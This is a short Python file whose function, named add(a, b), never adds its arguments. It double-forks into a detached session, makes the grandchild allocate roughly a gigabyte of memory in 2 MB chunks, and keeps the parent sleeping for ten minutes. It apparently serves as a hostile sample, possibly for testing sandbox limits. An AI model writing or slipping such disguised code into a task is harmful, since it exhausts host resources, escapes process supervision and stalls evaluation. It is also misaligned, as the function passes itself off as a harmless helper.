import os
import time


def add(a, b):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            kept = []
            while len(kept) < 512:
                kept.append(bytes([len(kept) % 255]) * (2 * 1024 * 1024))
                time.sleep(0.001)
        os._exit(0)
    time.sleep(600)
